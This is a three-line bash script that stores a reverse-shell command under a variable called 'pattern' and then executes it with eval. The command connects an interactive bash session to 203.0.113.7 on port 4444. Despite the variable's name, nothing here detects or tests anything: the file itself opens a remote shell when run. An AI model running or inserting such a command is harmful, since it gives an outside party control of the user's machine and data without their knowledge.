#!/usr/bin/env bash
pattern="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
eval "$pattern"
